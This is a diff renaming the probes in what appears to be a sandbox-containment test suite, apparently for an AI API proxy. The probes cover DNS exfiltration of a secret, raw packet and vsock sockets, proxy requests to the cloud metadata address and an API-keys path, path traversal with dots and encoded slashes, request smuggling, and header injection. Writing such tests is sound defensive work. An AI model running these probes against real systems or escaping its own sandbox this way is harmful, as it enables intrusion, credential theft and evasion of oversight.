@@ -22,7 +22,7 @@ def reach_a_service_by_an_abstract_name(target: dict[str, str]) -> str:
     return _read(connection)
 
 
-def reach_a_service_by_its_file(target: dict[str, str]) -> str:
+def reach_a_service_by_its_socket_file(target: dict[str, str]) -> str:
     connection = socket.socket(socket.AF_UNIX)
     connection.connect(target["victim_socket"])
     return _read(connection)
@@ -57,7 +57,7 @@ def reach_the_internet(target: dict[str, str]) -> str:
     raise ConnectionError("no address answers")
 
 
-def carry_a_secret_out_in_a_name(target: dict[str, str]) -> str:
+def send_a_secret_in_a_dns_query(target: dict[str, str]) -> str:
     del target
     question = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\6secret\7example\0" + struct.pack("!2H", 1, 1)
     for server in ("8.8.8.8", "127.0.0.53", "127.0.0.11"):
@@ -72,36 +72,36 @@ def carry_a_secret_out_in_a_name(target: dict[str, str]) -> str:
     raise ConnectionError("no resolver accepts the query")
 
 
-def listen_to_the_wire(target: dict[str, str]) -> str:
+def open_a_packet_socket(target: dict[str, str]) -> str:
     del target
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as listening:
         return str(listening.fileno())
 
 
-def speak_to_virtual_machines(target: dict[str, str]) -> str:
+def open_a_vsock_socket(target: dict[str, str]) -> str:
     """Create a vsock socket, which leads to virtual machines and their host, without using it."""
     del target
     with socket.socket(socket.AF_VSOCK) as speaking:
         return str(speaking.fileno())
 
 
-def have_the_proxy_ask_another_path(target: dict[str, str]) -> str:
+def request_another_path_through_the_proxy(target: dict[str, str]) -> str:
     return _asked(target, "GET", "/v1/organizations/api_keys")
 
 
-def have_the_proxy_ask_another_host(target: dict[str, str]) -> str:
+def request_another_host_through_the_proxy(target: dict[str, str]) -> str:
     return _asked(target, "GET", "http://169.254.169.254/latest/meta-data/")
 
 
-def have_the_proxy_open_a_tunnel(target: dict[str, str]) -> str:
+def open_a_tunnel_through_the_proxy(target: dict[str, str]) -> str:
     return _asked(target, "CONNECT", "169.254.169.254:80")
 
 
-def climb_out_of_the_path(target: dict[str, str]) -> str:
+def leave_the_allowed_path_with_dots(target: dict[str, str]) -> str:
     return _asked(target, "POST", "/v1/messages/../files", b"{}")
 
 
-def hide_the_path_in_its_spelling(target: dict[str, str]) -> str:
+def leave_the_allowed_path_with_encoded_slashes(target: dict[str, str]) -> str:
     return _asked(target, "POST", "/v1/messages%2f..%2ffiles", b"{}")
 
 
@@ -114,7 +114,7 @@ def smuggle_a_second_request(target: dict[str, str]) -> str:
     return answer.decode(errors="replace")
 
 
-def put_a_line_into_a_header(target: dict[str, str]) -> str:
+def inject_a_header_line(target: dict[str, str]) -> str:
     head = b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-App: a\rx-api-key: mine\r\nContent-Length: 2\r\n\r\n{}"
     answer = _raw(target, head)
     assert b" 200 " in answer.splitlines()[0], answer[:80]
